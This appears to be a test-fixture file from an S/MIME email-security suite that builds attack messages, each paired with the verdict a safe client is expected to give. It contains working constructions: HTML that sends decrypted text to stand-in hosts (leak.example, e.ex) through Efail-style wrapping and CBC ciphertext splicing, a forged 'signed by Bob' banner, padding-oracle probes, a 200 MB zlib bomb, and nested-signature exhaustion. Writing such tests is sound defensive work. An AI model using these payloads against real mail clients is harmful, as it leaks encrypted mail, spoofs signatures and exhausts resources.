// Tricks with what the protected part says and how it is opened: leaks to the network, ciphertext that was altered, work without end.
import { deflateSync } from 'node:zlib';
import { derExplicit, derInteger, derOctetString, derOid, derSequence } from '../../src/asn1/writer.ts';
import { bytesFromLatin1, concatBytes, type Bytes } from '../../src/bytes.ts';
import { contentInfoParts } from '../../src/cms/content-info.ts';
import { encryptContent } from '../../src/cms/encrypt.ts';
import { Oid } from '../../src/crypto/algorithms.ts';
import { multipart } from '../../src/mime/build.ts';
import { MAX_MIME_DEPTH } from '../../src/mime/entity.ts';
import { MAX_LAYERS } from '../../src/smime/walk.ts';
import { LEAKING_HTML } from '../browser/frames/leaking-html.ts';
import type { Cast } from './cast.ts';
import {
  clearSigned,
  cmsPart,
  encrypted,
  html,
  message,
  messageLines,
  octets,
  opaqueSigned,
  text,
  FORGED,
  GENUINE,
  UNSIGNED,
  type Trick,
} from './trick.ts';

/** id-alg-zlibCompress (RFC 3274 section 2). */
const ZLIB = '1.2.840.113549.1.9.16.3.8';
const BLOCK = 16;
const BOMB_OCTETS = 200 * 1024 * 1024;

function leaking(name: string, source: string): Trick {
  return {
    class: 'direct exfiltration',
    name: `whose encrypted HTML reaches out by ${name}`,
    how: 'the program loads what the HTML names, and with the address goes what was decrypted',
    make: async ({ alice }) =>
      message(await encrypted(html(`<p>${GENUINE}</p>${source}`), alice.certificate)),
    verdict: UNSIGNED,
  };
}

/** EnvelopedData of `entity` for Alice with some octets of its ciphertext replaced. */
async function altered(
  cast: Cast,
  entity: Bytes,
  alter: (structure: Bytes, ciphertextAt: number) => void,
): Promise<Bytes> {
  const structure = await encryptContent({
    content: entity,
    recipients: [cast.alice.certificate],
    cipher: 'aes-256-cbc',
  });
  // The encrypted content stands at the end, padded to whole blocks.
  const length = Math.floor(entity.length / BLOCK + 1) * BLOCK;
  alter(structure, structure.length - length);
  return structure;
}

export const CONTENT_TRICKS: readonly Trick[] = [
  {
    class: 'a drawn verdict',
    name: 'by Eve whose HTML draws a green bar with Bob’s name',
    how: 'a picture of the program’s own verdict within the message',
    make: async ({ eve }) =>
      message(
        await clearSigned(
          html(
            `<div style="position:fixed;top:0;left:0;right:0;z-index:999999;background:#1f7a3d;color:#fff">✓ Signed by Bob Ray (bob@example.test), checked now.</div><p>${FORGED}</p>`,
          ),
          eve,
        ),
        messageLines('Eve <eve@evil.example>'),
      ),
    verdict: 'valid',
  },
  ...LEAKING_HTML.map(([name, source]) => leaking(name, source)),
  {
    class: 'direct exfiltration',
    name: 'with an opened picture before the ciphertext and its end after it',
    how: 'the parts are joined into one HTML document before it is shown',
    make: async ({ alice }) =>
      message(
        multipart('mixed', [
          html('<img src="http://leak.example/'),
          octets(await encrypted(text(GENUINE), alice.certificate)),
          html('">'),
        ]),
      ),
    verdict: 'partial message.partly-protected',
    isHonest: true,
  },
  {
    class: 'spliced ciphertext',
    name: 'into whose ciphertext a picture was spliced by known plaintext',
    how: 'CBC without authentication: two blocks are replaced so that one is garbage and the next says what the attacker wants',
    make: async (cast) => {
      const known = 'Content-Type: te';
      const entity = bytesFromLatin1(
        `${known}xt/html; charset=utf-8\r\nX-Padding: 0123456789\r\n\r\n<p>${'secret '.repeat(40)}</p>\r\n`,
      );
      const structure = await altered(cast, entity, (all, at) => {
        const iv = ivOf(all, at);
        const first = all.slice(at, at + BLOCK);
        const gadget = (wanted: string): Bytes =>
          Uint8Array.from(iv, (octet, index) => octet ^ known.charCodeAt(index) ^ wanted.charCodeAt(index));
        for (const [index, wanted] of [
          '<img        alt="',
          '" src=//e.ex?q=',
          '">              ',
        ].entries()) {
          all.set(
            concatBytes(gadget(wanted.padEnd(BLOCK).slice(0, BLOCK)), first),
            at + BLOCK * (6 + 2 * index),
          );
        }
      });
      return message(cmsPart(structure, 'enveloped-data'));
    },
    verdict: UNSIGNED,
  },
  {
    class: 'spliced ciphertext',
    name: 'encrypted with AES-GCM of which one octet was changed',
    how: 'a program that streams shows what it has before the tag is checked',
    make: async ({ alice }) => {
      const structure = await encryptContent({
        content: text(GENUINE),
        recipients: [alice.certificate],
        cipher: 'aes-256-gcm',
      });
      structure[structure.length - 40]! ^= 1;
      return message(cmsPart(structure, 'authEnveloped-data'));
    },
    verdict: 'error decrypt.failed',
  },
  {
    class: 'errors as oracle',
    name: 'whose encrypted key does not decrypt',
    how: 'the error for a wrong PKCS #1 padding differs from that for wrong content',
    make: async (cast) => {
      const structure = await altered(cast, text(GENUINE), (all, at) => {
        // The key's octets end shortly before the content's algorithm.
        all[at - 80]! ^= 1;
      });
      return message(cmsPart(structure, 'enveloped-data'));
    },
    verdict: 'error decrypt.failed',
  },
  {
    class: 'errors as oracle',
    name: 'whose last block of ciphertext was changed',
    how: 'the error for a wrong CBC padding differs from that for a wrong key',
    make: async (cast) =>
      message(
        cmsPart(
          await altered(cast, text(GENUINE), (all) => (all[all.length - BLOCK - 1]! ^= 0xff)),
          'enveloped-data',
        ),
      ),
    verdict: 'error decrypt.failed',
  },
  {
    class: 'exhaustion',
    name: 'that grows to 200 MB when it is unpacked',
    how: 'unpacking fills the memory',
    make: () => {
      const packed = derSequence(
        derInteger(0),
        derSequence(derOid(ZLIB)),
        derSequence(
          derOid(Oid.data),
          derExplicit(0, derOctetString(new Uint8Array(deflateSync(Buffer.alloc(BOMB_OCTETS))))),
        ),
      );
      return message(
        cmsPart(concatBytes(...contentInfoParts(Oid.compressedData, packed)), 'compressed-data'),
      );
    },
    verdict: 'error compressed.too-large',
  },
  {
    class: 'exhaustion',
    name: 'signed again and again around itself',
    how: 'every layer costs a verification',
    make: async ({ bob }) => {
      let inner = text(GENUINE);
      for (let layer = 0; layer <= MAX_LAYERS; layer++) inner = octets(await opaqueSigned(inner, bob));
      return message(inner);
    },
    verdict: 'error message.too-deep',
  },
  {
    class: 'exhaustion',
    name: 'signed around parts within parts within parts',
    how: 'every level costs a scan of the whole',
    make: async ({ bob }) => {
      let inner = text(GENUINE);
      for (let depth = 0; depth <= MAX_MIME_DEPTH; depth++) inner = octets(multipart('mixed', [inner]));
      return message(await opaqueSigned(inner, bob));
    },
    verdict: 'error mime.too-deep',
  },
];

/** The initialisation vector stands right before the ciphertext: 16 octets, then tag and length of [0]. */
function ivOf(structure: Bytes, ciphertextAt: number): Bytes {
  const header = structure[ciphertextAt - 2] === 0x81 ? 3 : structure[ciphertextAt - 3] === 0x82 ? 4 : 2;
  return structure.slice(ciphertextAt - header - BLOCK, ciphertextAt - header);
}
